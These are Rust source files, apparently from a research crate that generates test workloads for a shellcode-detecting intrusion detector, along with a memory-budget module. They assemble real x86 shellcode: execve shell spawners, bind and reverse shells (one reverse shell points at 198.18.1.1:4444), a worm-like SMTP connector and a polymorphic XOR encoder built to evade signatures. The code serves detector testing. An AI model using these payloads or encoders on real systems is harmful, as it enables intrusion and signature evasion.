            critical: limit.saturating_mul(CRITICAL_NUM) / WATERMARK_DEN,
            tracked: AtomicU64::new(0),
            peak: AtomicU64::new(0),
        }
    }

    /// Accounting without a ceiling: `level()` is always `Normal`.
    pub fn unlimited() -> MemoryBudget {
        MemoryBudget::limited(0)
    }

    /// The configured ceiling in bytes (0 = unlimited).
    pub fn limit(&self) -> u64 {
        self.limit
    }

    /// True when a ceiling is configured.
    pub fn is_limited(&self) -> bool {
        self.limit > 0
    }

    /// Charge `n` freshly buffered bytes.
    pub fn charge(&self, n: u64) {
        if n == 0 {
            return;
        }
        let now = self.tracked.fetch_add(n, Ordering::Relaxed) + n;
        self.peak.fetch_max(now, Ordering::Relaxed);
    }

    /// Release `n` bytes (saturating: accounting drift cannot underflow —
    /// the debug assertion at pipeline teardown catches drift instead).
    pub fn release(&self, n: u64) {
        if n == 0 {
            return;
        }
        let _ = self
            .tracked
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |v| {
                Some(v.saturating_sub(n))
            });
    }

    /// Bytes currently tracked across every reporting stage.
    pub fn tracked(&self) -> u64 {
        self.tracked.load(Ordering::Relaxed)
    }

    /// The high-water mark of `tracked` over the budget's lifetime.
    pub fn peak(&self) -> u64 {
        self.peak.load(Ordering::Relaxed)
    }

    /// The current pressure level. Always `Normal` when unlimited.
    pub fn level(&self) -> PressureLevel {
        if self.limit == 0 {
            return PressureLevel::Normal;
        }
        let tracked = self.tracked();
        if tracked >= self.critical {
            PressureLevel::Critical
        } else if tracked >= self.high_water {
            PressureLevel::High
        } else {
            PressureLevel::Normal
        }
    }

    /// True while tracked bytes sit at or above the critical mark (the
    /// flow table's shed loop runs until this clears).
    pub fn over_critical(&self) -> bool {
        self.limit > 0 && self.tracked() >= self.critical
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unlimited_never_pressures() {
        let b = MemoryBudget::unlimited();
        b.charge(u64::MAX / 2);
        assert_eq!(b.level(), PressureLevel::Normal);
        assert!(!b.over_critical());
        assert_eq!(b.limit(), 0);
        assert!(!b.is_limited());
    }

    #[test]
    fn watermark_ladder() {
        let b = MemoryBudget::limited(1000);
        assert_eq!(b.level(), PressureLevel::Normal);
        b.charge(699);
        assert_eq!(b.level(), PressureLevel::Normal);
        b.charge(1); // 700 = high water
        assert_eq!(b.level(), PressureLevel::High);
        b.charge(199); // 899
        assert_eq!(b.level(), PressureLevel::High);
        b.charge(1); // 900 = critical
        assert_eq!(b.level(), PressureLevel::Critical);
        assert!(b.over_critical());
        b.release(500);
        assert_eq!(b.level(), PressureLevel::Normal);
        assert_eq!(b.peak(), 900, "peak survives release");
        assert_eq!(b.tracked(), 400);
    }

    #[test]
    fn release_saturates() {
        let b = MemoryBudget::limited(100);
        b.charge(10);
        b.release(50);
        assert_eq!(b.tracked(), 0);
    }

    #[test]
    fn levels_are_ordered() {
        assert!(PressureLevel::Normal < PressureLevel::High);
        assert!(PressureLevel::High < PressureLevel::Critical);
        for l in [
            PressureLevel::Normal,
            PressureLevel::High,
            PressureLevel::Critical,
        ] {
            assert!(!l.name().is_empty());
        }
        assert_eq!(PressureLevel::Critical.code(), 2);
    }

    #[test]
    fn concurrent_charges_balance() {
        use std::sync::Arc;
        let b = Arc::new(MemoryBudget::limited(1 << 30));
        let mut handles = Vec::new();
        for _ in 0..4 {
            let b = Arc::clone(&b);
            handles.push(std::thread::spawn(move || {
                for _ in 0..10_000 {
                    b.charge(3);
                    b.release(3);
                }
            }));
        }
        for h in handles {
            let _ = h.join();
        }
        assert_eq!(b.tracked(), 0);
        assert!(b.peak() >= 3);
    }
}
