//! Synthetic standalone binaries for the §5.1 throughput datapoints.
//!
//! The paper timed two ~22 KB Netsky samples through the analyzer. We
//! synthesize "instruction soup" blobs of comparable size: valid, benign
//! code with realistic instruction mix but no decoder/shell behaviour —
//! so the analyzer does full work and reports nothing.

use crate::asm::{Asm, R};
use rand::Rng;

/// Generate a benign code blob of at least `size` bytes.
pub fn netsky_like<G: Rng>(rng: &mut G, size: usize) -> Vec<u8> {
    let regs = [R::Eax, R::Ecx, R::Edx, R::Ebx, R::Esi, R::Edi];
    // Realistic immediate pools: small constants and image-range addresses
    // (never the 0x7801xxxx msvcrt window the CRII template watches).
    let imm = |rng: &mut G| -> u32 {
        match rng.gen_range(0..3) {
            0 => rng.gen_range(0..4096),
            1 => 0x0040_0000 + rng.gen_range(0..0x4_0000),
            _ => 0x0804_8000 + rng.gen_range(0..0x1_0000),
        }
    };
    let mut a = Asm::new();
    while a.here() < size {
        let r = regs[rng.gen_range(0..regs.len())];
        let s = regs[rng.gen_range(0..regs.len())];
        match rng.gen_range(0..10) {
            0 => {
                a.mov_imm(r, imm(rng));
            }
            1 => {
                a.mov_rr(r, s);
            }
            2 => {
                a.add_imm32(r, imm(rng));
            }
            3 => {
                a.push(r);
            }
            4 => {
                a.pop(r);
            }
            5 => {
                a.cmp_rr(r, s);
                // forward conditional jump over a few instructions
                let rel: u8 = rng.gen_range(2..16);
                a.raw(&[0x74 + rng.gen_range(0..4), rel]);
            }
            6 => {
                a.xor_rr(r, s);
            }
            7 => {
                a.inc(r);
            }
            8 => {
                a.nop();
            }
            _ => {
                // a short forward call + ret pair (subroutine shape)
                let fix = a.jmp_fwd();
                a.mov_imm(R::Eax, imm(rng));
                a.raw(&[0xc3]);
                a.patch_fwd(fix);
            }
        }
    }
    a.finish()
}

/// An email-worm-like blob: a Netsky-style binary whose propagation
/// engine materializes SMTP verbs and connects out to port 25 — the
/// behaviour behind the `smtp-propagation` template.
pub fn email_worm_like<G: Rng>(rng: &mut G, size: usize) -> Vec<u8> {
    let mut blob = netsky_like(rng, size.saturating_sub(160));
    let mut a = Asm::new();
    // socket(AF_INET, SOCK_STREAM, 0)
    a.xor_rr(R::Eax, R::Eax)
        .xor_rr(R::Ebx, R::Ebx)
        .cdq()
        .push(R::Edx)
        .push_imm8(1)
        .push_imm8(2)
        .mov_rr(R::Ecx, R::Esp)
        .inc(R::Ebx)
        .mov_imm8(R::Eax, 0x66)
        .int(0x80);
    // connect(s, {AF_INET, 25, mx}, 16)
    let sockaddr = (25u32.swap_bytes() >> 16 << 16) | 0x0002;
    a.mov_rr(R::Esi, R::Eax)
        .xor_rr(R::Eax, R::Eax)
        .push_imm32(u32::from_le_bytes([10, 0, 0, 25]))
        .push_imm32(sockaddr)
        .mov_rr(R::Ecx, R::Esp)
        .push_imm8(0x10)
        .push(R::Ecx)
        .push(R::Esi)
        .mov_rr(R::Ecx, R::Esp)
        .xor_rr(R::Ebx, R::Ebx)
        .add_imm8(R::Ebx, 3) // SYS_CONNECT
        .mov_imm8(R::Eax, 0x66)
        .int(0x80);
    // build "HELO" / "MAIL" verbs in registers for the send buffer
    a.mov_imm(R::Edi, 0x4f4c_4548) // "HELO"
        .push(R::Edi)
        .mov_imm(R::Edi, 0x4c49_414d) // "MAIL"
        .push(R::Edi)
        .mov_imm(R::Edi, 0x5450_4352) // "RCPT"
        .push(R::Edi);
    blob.extend_from_slice(&a.finish());
    blob
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use snids_semantic::Analyzer;

    #[test]
    fn blob_reaches_requested_size() {
        let mut rng = StdRng::seed_from_u64(1);
        let blob = netsky_like(&mut rng, 22 * 1024);
        assert!(blob.len() >= 22 * 1024);
        assert!(blob.len() < 23 * 1024);
    }

    #[test]
    fn email_worm_behaviour_is_detected() {
        use snids_semantic::Analyzer;
        let mut rng = StdRng::seed_from_u64(11);
        let worm = email_worm_like(&mut rng, 8 * 1024);
        let names: Vec<_> = Analyzer::default()
            .analyze(&worm)
            .iter()
            .map(|m| m.template)
            .collect();
        assert!(names.contains(&"smtp-propagation"), "{names:?}");
        // and the plain netsky blob does NOT trip it
        let clean = netsky_like(&mut rng, 8 * 1024);
        assert!(Analyzer::default().analyze(&clean).is_empty());
    }

    #[test]
    fn blob_is_clean_under_full_analysis() {
        for seed in 0..3u64 {
            let mut rng = StdRng::seed_from_u64(seed);
            let blob = netsky_like(&mut rng, 8 * 1024);
            let ms = Analyzer::default().analyze(&blob);
            assert!(ms.is_empty(), "seed {seed}: spurious match {ms:?}");
        }
    }
}
