//! The inert shellcode corpus: eight behaviourally-equivalent,
//! syntactically-distinct Linux shell spawners plus port-binding variants.
//!
//! Each variant spawns `execve("/bin//sh")` through a different spelling —
//! different string pushes, different syscall-number construction,
//! different zeroing idioms, junk padding — which is exactly what Table 1
//! needs: eight *different* exploits exhibiting one behaviour.
//!
//! **Inert by construction**: placeholder addresses, never executed.

use crate::asm::{Asm, R};
use rand::Rng;

/// `"/bin"` little-endian.
pub const BIN: u32 = 0x6e69_622f;
/// `"//sh"` little-endian.
pub const SSH: u32 = 0x6873_2f2f;
/// `"/sh\0"` little-endian.
pub const SH0: u32 = 0x0068_732f;

/// Number of distinct shell-spawning styles.
pub const STYLE_COUNT: usize = 8;

/// Build style `style % STYLE_COUNT` of the shell spawner.
pub fn execve_variant<G: Rng>(rng: &mut G, style: usize) -> Vec<u8> {
    let mut a = Asm::new();
    match style % STYLE_COUNT {
        // 0: the classic Aleph One shape.
        0 => {
            a.xor_rr(R::Eax, R::Eax)
                .push(R::Eax)
                .push_imm32(SSH)
                .push_imm32(BIN)
                .mov_rr(R::Ebx, R::Esp)
                .push(R::Eax)
                .push(R::Ebx)
                .mov_rr(R::Ecx, R::Esp)
                .xor_rr(R::Edx, R::Edx)
                .mov_imm8(R::Eax, 0x0b)
                .int(0x80);
        }
        // 1: syscall number via push/pop.
        1 => {
            a.push_imm32(SSH)
                .push_imm32(BIN)
                .mov_rr(R::Ebx, R::Esp)
                .xor_rr(R::Ecx, R::Ecx)
                .xor_rr(R::Edx, R::Edx)
                .push_imm8(0x0b)
                .pop(R::Eax)
                .int(0x80);
        }
        // 2: syscall number built arithmetically (contribution (c) food).
        2 => {
            a.xor_rr(R::Eax, R::Eax)
                .push(R::Eax)
                .push_imm32(SSH)
                .push_imm32(BIN)
                .mov_rr(R::Ebx, R::Esp)
                .xor_rr(R::Ecx, R::Ecx)
                .cdq()
                .mov_imm8(R::Eax, 5)
                .add_r8_imm8(R::Eax, 6)
                .int(0x80);
        }
        // 3: "/bin" + "/sh\0" spelling.
        3 => {
            a.xor_rr(R::Edx, R::Edx)
                .push_imm32(SH0)
                .push_imm32(BIN)
                .mov_rr(R::Ebx, R::Esp)
                .xor_rr(R::Ecx, R::Ecx)
                .push_imm8(0x0b)
                .pop(R::Eax)
                .int(0x80);
        }
        // 4: strings staged through a register first.
        4 => {
            a.mov_imm(R::Esi, SSH)
                .xor_rr(R::Eax, R::Eax)
                .push(R::Eax)
                .push(R::Esi)
                .push_imm32(BIN)
                .mov_rr(R::Ebx, R::Esp)
                .cdq()
                .xor_rr(R::Ecx, R::Ecx)
                .mov_imm8(R::Eax, 0x0b)
                .int(0x80);
        }
        // 5: junk-laced classic.
        5 => {
            a.xor_rr(R::Eax, R::Eax);
            a.nop_like(rng, &[R::Eax, R::Ebx, R::Esp]);
            a.push(R::Eax).push_imm32(SSH);
            a.nop_like(rng, &[R::Eax, R::Ebx, R::Esp]);
            a.push_imm32(BIN).mov_rr(R::Ebx, R::Esp);
            a.nop_like(rng, &[R::Eax, R::Ebx, R::Esp]);
            a.push(R::Eax)
                .push(R::Ebx)
                .mov_rr(R::Ecx, R::Esp)
                .cdq()
                .mov_imm8(R::Eax, 0x0b)
                .int(0x80);
        }
        // 6: setuid(0) first, then the shell.
        6 => {
            a.xor_rr(R::Eax, R::Eax)
                .xor_rr(R::Ebx, R::Ebx)
                .mov_imm8(R::Eax, 0x17) // setuid
                .int(0x80)
                .xor_rr(R::Eax, R::Eax)
                .push(R::Eax)
                .push_imm32(SSH)
                .push_imm32(BIN)
                .mov_rr(R::Ebx, R::Esp)
                .xor_rr(R::Ecx, R::Ecx)
                .cdq()
                .mov_imm8(R::Eax, 0x0b)
                .int(0x80);
        }
        // 7: syscall number by subtraction from a junk value.
        _ => {
            a.push_imm32(SSH)
                .push_imm32(BIN)
                .mov_rr(R::Ebx, R::Esp)
                .xor_rr(R::Ecx, R::Ecx)
                .xor_rr(R::Edx, R::Edx)
                .mov_imm(R::Eax, 0x20)
                .sub_imm8(R::Eax, 0x15)
                .int(0x80);
        }
    }
    a.finish()
}

/// A port-binding shell: socketcall(socket), socketcall(bind),
/// socketcall(listen), dup2 wiring, then execve — the "bound to a separate
/// network port" variants of §5.1.
pub fn bind_shell<G: Rng>(_rng: &mut G, port: u16) -> Vec<u8> {
    let mut a = Asm::new();
    // socket(AF_INET, SOCK_STREAM, 0)
    a.xor_rr(R::Eax, R::Eax)
        .xor_rr(R::Ebx, R::Ebx)
        .cdq()
        .push(R::Edx) // protocol 0
        .push_imm8(1) // SOCK_STREAM
        .push_imm8(2) // AF_INET
        .mov_rr(R::Ecx, R::Esp)
        .inc(R::Ebx) // SYS_SOCKET = 1
        .mov_imm8(R::Eax, 0x66)
        .int(0x80);
    // bind(s, {AF_INET, port, INADDR_ANY}, 16)
    let sockaddr = (u32::from(port.swap_bytes()) << 16) | 0x0002;
    a.mov_rr(R::Esi, R::Eax) // saved socket fd
        .xor_rr(R::Eax, R::Eax)
        .cdq()
        .push(R::Edx)
        .push(R::Edx)
        .push_imm32(sockaddr)
        .mov_rr(R::Ecx, R::Esp)
        .push_imm8(0x10)
        .push(R::Ecx)
        .push(R::Esi)
        .mov_rr(R::Ecx, R::Esp)
        .xor_rr(R::Ebx, R::Ebx)
        .add_imm8(R::Ebx, 2) // SYS_BIND = 2
        .mov_imm8(R::Eax, 0x66)
        .int(0x80);
    // listen(s, 1)
    a.xor_rr(R::Eax, R::Eax)
        .push_imm8(1)
        .push(R::Esi)
        .mov_rr(R::Ecx, R::Esp)
        .xor_rr(R::Ebx, R::Ebx)
        .add_imm8(R::Ebx, 4) // SYS_LISTEN = 4
        .mov_imm8(R::Eax, 0x66)
        .int(0x80);
    // dup2(s, 0..2)
    for fd in 0..3i8 {
        a.xor_rr(R::Eax, R::Eax)
            .mov_rr(R::Ebx, R::Esi)
            .xor_rr(R::Ecx, R::Ecx);
        if fd > 0 {
            a.add_imm8(R::Ecx, fd);
        }
        a.mov_imm8(R::Eax, 0x3f).int(0x80);
    }
    // execve("/bin//sh")
    a.xor_rr(R::Eax, R::Eax)
        .push(R::Eax)
        .push_imm32(SSH)
        .push_imm32(BIN)
        .mov_rr(R::Ebx, R::Esp)
        .push(R::Eax)
        .push(R::Ebx)
        .mov_rr(R::Ecx, R::Esp)
        .cdq()
        .mov_imm8(R::Eax, 0x0b)
        .int(0x80);
    a.finish()
}

/// A connect-back (reverse) shell: socketcall(SOCKET), socketcall(CONNECT)
/// to `addr:port`, dup2 wiring, then execve — the behaviour behind the
/// `reverse-shell` template (paper §6 future work).
pub fn reverse_shell<G: Rng>(_rng: &mut G, addr: [u8; 4], port: u16) -> Vec<u8> {
    let mut a = Asm::new();
    // socket(AF_INET, SOCK_STREAM, 0)
    a.xor_rr(R::Eax, R::Eax)
        .xor_rr(R::Ebx, R::Ebx)
        .cdq()
        .push(R::Edx)
        .push_imm8(1)
        .push_imm8(2)
        .mov_rr(R::Ecx, R::Esp)
        .inc(R::Ebx) // SYS_SOCKET = 1
        .mov_imm8(R::Eax, 0x66)
        .int(0x80);
    // connect(s, {AF_INET, port, addr}, 16)
    let sockaddr_lo = (u32::from(port.swap_bytes()) << 16) | 0x0002;
    a.mov_rr(R::Esi, R::Eax)
        .xor_rr(R::Eax, R::Eax)
        .push_imm32(u32::from_le_bytes(addr))
        .push_imm32(sockaddr_lo)
        .mov_rr(R::Ecx, R::Esp)
        .push_imm8(0x10)
        .push(R::Ecx)
        .push(R::Esi)
        .mov_rr(R::Ecx, R::Esp)
        .xor_rr(R::Ebx, R::Ebx)
        .add_imm8(R::Ebx, 3) // SYS_CONNECT = 3
        .mov_imm8(R::Eax, 0x66)
        .int(0x80);
    // dup2(s, 0..2)
    for fd in 0..3i8 {
        a.xor_rr(R::Eax, R::Eax)
            .mov_rr(R::Ebx, R::Esi)
            .xor_rr(R::Ecx, R::Ecx);
        if fd > 0 {
            a.add_imm8(R::Ecx, fd);
        }
        a.mov_imm8(R::Eax, 0x3f).int(0x80);
    }
    // execve("/bin//sh")
    a.xor_rr(R::Eax, R::Eax)
        .push(R::Eax)
        .push_imm32(SSH)
        .push_imm32(BIN)
        .mov_rr(R::Ebx, R::Esp)
        .push(R::Eax)
        .push(R::Ebx)
        .mov_rr(R::Ecx, R::Esp)
        .cdq()
        .mov_imm8(R::Eax, 0x0b)
        .int(0x80);
    a.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn variants_are_distinct_bytes() {
        let mut rng = StdRng::seed_from_u64(1);
        let all: Vec<Vec<u8>> = (0..STYLE_COUNT)
            .map(|s| execve_variant(&mut rng, s))
            .collect();
        for i in 0..all.len() {
            for j in i + 1..all.len() {
                assert_ne!(all[i], all[j], "styles {i} and {j} collide");
            }
        }
    }

    #[test]
    fn every_variant_contains_the_path_and_syscall() {
        let mut rng = StdRng::seed_from_u64(2);
        for s in 0..STYLE_COUNT {
            let code = execve_variant(&mut rng, s);
            // int 0x80 present
            assert!(
                code.windows(2).any(|w| w == [0xcd, 0x80]),
                "style {s} lacks int 0x80"
            );
            // "/bin" dword present (as push or mov immediate)
            assert!(
                code.windows(4).any(|w| w == BIN.to_le_bytes()),
                "style {s} lacks /bin"
            );
        }
    }

    #[test]
    fn bind_shell_has_multiple_socketcalls() {
        let mut rng = StdRng::seed_from_u64(3);
        let code = bind_shell(&mut rng, 4444);
        let socketcalls = code
            .windows(4)
            .filter(|w| w == &[0xb0, 0x66, 0xcd, 0x80])
            .count();
        assert!(socketcalls >= 3, "got {socketcalls}");
        // port appears network-ordered inside the pushed sockaddr
        let want = ((u32::from(4444u16.swap_bytes()) << 16) | 2).to_le_bytes();
        assert!(code.windows(4).any(|w| w == want));
    }

    #[test]
    fn reverse_shell_distinguished_from_bind_shell() {
        use snids_semantic::Analyzer;
        let mut rng = StdRng::seed_from_u64(5);
        let analyzer = Analyzer::default();

        let rev = reverse_shell(&mut rng, [198, 18, 1, 1], 4444);
        let rev_names: Vec<_> = analyzer.analyze(&rev).iter().map(|m| m.template).collect();
        assert!(rev_names.contains(&"reverse-shell"), "{rev_names:?}");
        assert!(rev_names.contains(&"linux-shell-spawn"));
        assert!(
            !rev_names.contains(&"bind-shell"),
            "a connect-back must not be classified as a bind shell: {rev_names:?}"
        );

        let bind = bind_shell(&mut rng, 4444);
        let bind_names: Vec<_> = analyzer.analyze(&bind).iter().map(|m| m.template).collect();
        assert!(bind_names.contains(&"bind-shell"), "{bind_names:?}");
        assert!(
            !bind_names.contains(&"reverse-shell"),
            "a bind shell must not be classified as connect-back: {bind_names:?}"
        );
    }

    #[test]
    fn variants_decode_cleanly() {
        let mut rng = StdRng::seed_from_u64(4);
        for s in 0..STYLE_COUNT {
            let code = execve_variant(&mut rng, s);
            for insn in snids_x86::linear_sweep(&code) {
                assert_ne!(
                    insn.mnemonic,
                    snids_x86::Mnemonic::Bad,
                    "style {s} has undecodable bytes"
                );
            }
        }
    }
}
