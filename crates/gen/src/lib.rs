#![deny(missing_docs)]

//! Workload generation for the snids evaluation.
//!
//! Everything the paper's experiments consumed but we cannot download —
//! the ADMmutate and Clet kits, eight remote shell-spawning exploits, the
//! Code Red II worm, production traffic traces — is synthesized here.
//!
//! **Safety**: all shellcode in this crate is *inert test data*. It is
//! assembled with placeholder addresses, wrapped in synthetic packets, and
//! exists solely as input to the detector. Nothing here is ever executed.
//!
//! Determinism: every generator takes an explicit RNG so experiments are
//! reproducible from a seed.

pub mod admmutate;
pub mod asm;
pub mod benign;
pub mod binaries;
pub mod chaos;
pub mod clet;
pub mod codered;
pub mod exploit;
pub mod exploits;
pub mod shellcode;
pub mod traces;

pub use admmutate::{AdmMutate, DecoderFamily};
pub use asm::Asm;
pub use chaos::{
    chaos_packets, chaos_pcap, exhaustion_flood, ChaosConfig, ChaosLog, DesyncConfig,
    ExhaustionConfig,
};
pub use clet::Clet;
pub use exploit::{ExploitLayout, OverflowExploit};
pub use exploits::{ExploitScenario, SCENARIOS};
