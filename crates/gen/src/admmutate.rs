//! An ADMmutate-like polymorphic shellcode engine.
//!
//! Reproduces the structure the paper observed in ADMmutate 0.8.4 (§5.2):
//!
//! * NOP-like sled generation over a pool of one-byte instructions,
//! * garbage (junk) instruction insertion,
//! * equivalent instruction replacement (inc/add/lea/sub-negative),
//! * out-of-order sequencing via `jmp` over garbage bytes,
//! * register reassignment on every generation,
//! * **two distinct decoder families** — the plain XOR loop, and "a
//!   decoding scheme involving a sequence of mov, or, and, and not
//!   instructions that perform operations on a single memory location and
//!   register pair". Table 2's 68%→100% result hinges on this split.

use crate::asm::{Asm, R};
use rand::Rng;

/// Which decoder family an instance uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DecoderFamily {
    /// The classic in-place XOR loop (Figure 1 / Figure 2 behaviour).
    Xor,
    /// The load/transform/store scheme (Figure 7 behaviour).
    LoadStore,
}

/// The engine.
#[derive(Debug, Clone)]
pub struct AdmMutate {
    /// Probability of choosing the XOR family (the paper's observed mix
    /// yields a 68% first-pass detection rate with the XOR template only).
    pub xor_weight: f64,
    /// Sled length range (instructions).
    pub sled_range: (usize, usize),
    /// Probability of an out-of-order jmp-over-garbage insertion per site.
    pub garbage_jmp_prob: f64,
}

impl Default for AdmMutate {
    fn default() -> Self {
        AdmMutate {
            xor_weight: 0.68,
            sled_range: (16, 48),
            garbage_jmp_prob: 0.25,
        }
    }
}

impl AdmMutate {
    /// Pick a decoder family.
    pub fn pick_family<G: Rng>(&self, rng: &mut G) -> DecoderFamily {
        if rng.gen_bool(self.xor_weight) {
            DecoderFamily::Xor
        } else {
            DecoderFamily::LoadStore
        }
    }

    /// Generate one polymorphic instance around `inner`: sled + decoder +
    /// encoded payload. Returns the bytes and the family used.
    pub fn generate<G: Rng>(&self, rng: &mut G, inner: &[u8]) -> (Vec<u8>, DecoderFamily) {
        let family = self.pick_family(rng);
        let bytes = self.generate_family(rng, inner, family);
        (bytes, family)
    }

    /// Generate with a forced family (used by tests and Table 2).
    pub fn generate_family<G: Rng>(
        &self,
        rng: &mut G,
        inner: &[u8],
        family: DecoderFamily,
    ) -> Vec<u8> {
        match family {
            DecoderFamily::Xor => self.xor_instance(rng, inner),
            DecoderFamily::LoadStore => self.load_store_instance(rng, inner),
        }
    }

    /// Junk padding: NOP-like ops plus optional jmp-over-garbage.
    fn junk<G: Rng>(&self, a: &mut Asm, rng: &mut G, protect: &[R]) {
        for _ in 0..rng.gen_range(0..3) {
            a.nop_like(rng, protect);
        }
        if rng.gen_bool(self.garbage_jmp_prob) {
            let fix = a.jmp_fwd();
            let n = rng.gen_range(2..6);
            let garbage: Vec<u8> = (0..n).map(|_| rng.gen()).collect();
            a.raw(&garbage);
            a.patch_fwd(fix);
        }
    }

    fn xor_instance<G: Rng>(&self, rng: &mut G, inner: &[u8]) -> Vec<u8> {
        let key: u8 = rng.gen_range(1..=255);
        // ECX is reserved for the loop counter.
        let ptrs: Vec<R> = R::POINTERS.into_iter().filter(|r| *r != R::Ecx).collect();
        let ptr = ptrs[rng.gen_range(0..ptrs.len())];
        // key register: a low-byte register different from the pointer and
        // from ECX (the loop counter).
        let key_regs: Vec<R> = [R::Eax, R::Edx, R::Ebx]
            .into_iter()
            .filter(|r| *r != ptr)
            .collect();
        let key_reg = key_regs[rng.gen_range(0..key_regs.len())];
        let protect = [ptr, key_reg, R::Ecx];

        let mut a = Asm::new();
        let sled_n = rng.gen_range(self.sled_range.0..=self.sled_range.1);
        a.sled(rng, sled_n, &protect);

        // Pointer setup: a placeholder stack address, or the classic GetPC
        // idiom (`call $+0; pop ptr; add ptr, delta`) position-independent
        // exploits use.
        if rng.gen_bool(0.3) {
            a.raw(&[0xe8, 0, 0, 0, 0]); // call $+0
            a.pop(ptr);
            a.add_imm8(ptr, rng.gen_range(8..32));
        } else {
            a.mov_imm(ptr, 0xbfff_e000 + rng.gen_range(0..0x1000));
        }
        self.junk(&mut a, rng, &protect);

        // Counter setup: mov or push/pop.
        if rng.gen_bool(0.5) {
            a.push_imm32(inner.len() as u32).pop(R::Ecx);
        } else {
            a.mov_imm(R::Ecx, inner.len() as u32);
        }
        self.junk(&mut a, rng, &protect);

        // Key materialization: direct immediate xor, or a key register
        // built directly / by arithmetic / via the stack.
        let key_in_reg = rng.gen_bool(0.6);
        if key_in_reg {
            match rng.gen_range(0..3) {
                0 => {
                    a.mov_imm(key_reg, u32::from(key));
                }
                1 => {
                    // split-add chain (the Figure 1(b) obfuscation)
                    let part: u8 = rng.gen_range(1..=key.max(1));
                    a.mov_imm(key_reg, u32::from(key.wrapping_sub(part)));
                    a.add_r8_imm8(key_reg, part);
                }
                _ => {
                    a.push_imm32(u32::from(key)).pop(key_reg);
                }
            }
            self.junk(&mut a, rng, &protect);
        }

        // The loop body.
        let body = a.here();
        if key_in_reg {
            a.xor_mem_r8(ptr, key_reg);
        } else {
            a.xor_mem_imm8(ptr, key);
        }
        self.junk(&mut a, rng, &protect);
        // Equivalent-instruction advance.
        match rng.gen_range(0..4) {
            0 => {
                a.inc(ptr);
            }
            1 => {
                a.add_imm8(ptr, 1);
            }
            2 => {
                a.lea_advance(ptr, 1);
            }
            _ => {
                a.sub_imm8(ptr, -1);
            }
        }
        self.junk(&mut a, rng, &protect);
        // LOOP or DEC/JNZ back-edge.
        if rng.gen_bool(0.7) {
            a.loop_to(body);
        } else {
            a.dec(R::Ecx);
            a.jnz_to(body);
        }

        let mut out = a.finish();
        out.extend(inner.iter().map(|b| b ^ key));
        out
    }

    fn load_store_instance<G: Rng>(&self, rng: &mut G, inner: &[u8]) -> Vec<u8> {
        // ECX is reserved for the loop counter.
        let ptrs: Vec<R> = R::POINTERS.into_iter().filter(|r| *r != R::Ecx).collect();
        let ptr = ptrs[rng.gen_range(0..ptrs.len())];
        let works: Vec<R> = [R::Eax, R::Edx, R::Ebx]
            .into_iter()
            .filter(|r| *r != ptr)
            .collect();
        let work = works[rng.gen_range(0..works.len())];
        let protect = [ptr, work, R::Ecx];

        let mut a = Asm::new();
        let sled_n = rng.gen_range(self.sled_range.0..=self.sled_range.1);
        a.sled(rng, sled_n, &protect);
        a.mov_imm(ptr, 0xbfff_e000 + rng.gen_range(0..0x1000));
        a.mov_imm(R::Ecx, inner.len() as u32);
        self.junk(&mut a, rng, &protect);

        // The transform pipeline: 2–4 of mov/or/and/not/xor on the single
        // memory location + register pair (paper Figure 7). The payload is
        // inert, so the pipeline need not be a bijection — we track only
        // the invertible steps when producing the "encoded" bytes.
        let key: u8 = rng.gen_range(1..=255);
        let or_mask: u8 = rng.gen();
        let and_mask: u8 = rng.gen::<u8>() | 0x0f;
        let steps = rng.gen_range(2..=4usize);

        let body = a.here();
        a.load8(work, ptr);
        let mut invert_not = false;
        let mut invert_xor = 0u8;
        // The first transform is always invertible so the encoded payload
        // never degenerates to plaintext.
        if rng.gen_bool(0.5) {
            a.not_r8(work);
            invert_not = !invert_not;
        } else {
            a.xor_r8_imm8(work, key);
            invert_xor ^= key;
        }
        for s in 0..steps {
            match (s + rng.gen_range(0..2)) % 4 {
                0 => {
                    a.or_r8_imm8(work, or_mask);
                }
                1 => {
                    a.and_r8_imm8(work, and_mask);
                }
                2 => {
                    a.not_r8(work);
                    invert_not = !invert_not;
                }
                _ => {
                    a.xor_r8_imm8(work, key);
                    invert_xor ^= key;
                }
            }
        }
        // Guard against a degenerate pipeline (e.g. two xors cancelling):
        // the encoding must actually change the payload bytes.
        if !invert_not && invert_xor == 0 {
            a.not_r8(work);
            invert_not = true;
        }
        a.store8(ptr, work);
        self.junk(&mut a, rng, &protect);
        match rng.gen_range(0..3) {
            0 => {
                a.inc(ptr);
            }
            1 => {
                a.add_imm8(ptr, 1);
            }
            _ => {
                a.lea_advance(ptr, 1);
            }
        }
        a.loop_to(body);

        let mut out = a.finish();
        out.extend(inner.iter().map(|b| {
            let mut v = *b ^ invert_xor;
            if invert_not {
                v = !v;
            }
            v
        }));
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shellcode;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use snids_semantic::{templates, Analyzer};

    fn inner() -> Vec<u8> {
        let mut rng = StdRng::seed_from_u64(0);
        shellcode::execve_variant(&mut rng, 0)
    }

    #[test]
    fn xor_instances_match_the_xor_template() {
        let engine = AdmMutate::default();
        let analyzer = Analyzer::new(templates::xor_only_templates());
        let payload = inner();
        for seed in 0..50u64 {
            let mut rng = StdRng::seed_from_u64(seed);
            let bytes = engine.generate_family(&mut rng, &payload, DecoderFamily::Xor);
            assert!(
                analyzer.detects(&bytes),
                "xor instance seed {seed} missed ({} bytes)",
                bytes.len()
            );
        }
    }

    #[test]
    fn load_store_instances_evade_xor_template_but_not_full_set() {
        let engine = AdmMutate::default();
        let xor_only = Analyzer::new(templates::xor_only_templates());
        let full = Analyzer::default();
        let payload = inner();
        for seed in 0..50u64 {
            let mut rng = StdRng::seed_from_u64(1000 + seed);
            let bytes = engine.generate_family(&mut rng, &payload, DecoderFamily::LoadStore);
            assert!(
                !xor_only.detects(&bytes),
                "seed {seed}: xor-only template should miss the alt scheme"
            );
            assert!(
                full.detects(&bytes),
                "seed {seed}: full template set must catch the alt scheme"
            );
        }
    }

    #[test]
    fn family_mix_approximates_the_weight() {
        let engine = AdmMutate::default();
        let mut rng = StdRng::seed_from_u64(42);
        let n = 1000;
        let xor = (0..n)
            .filter(|_| engine.pick_family(&mut rng) == DecoderFamily::Xor)
            .count();
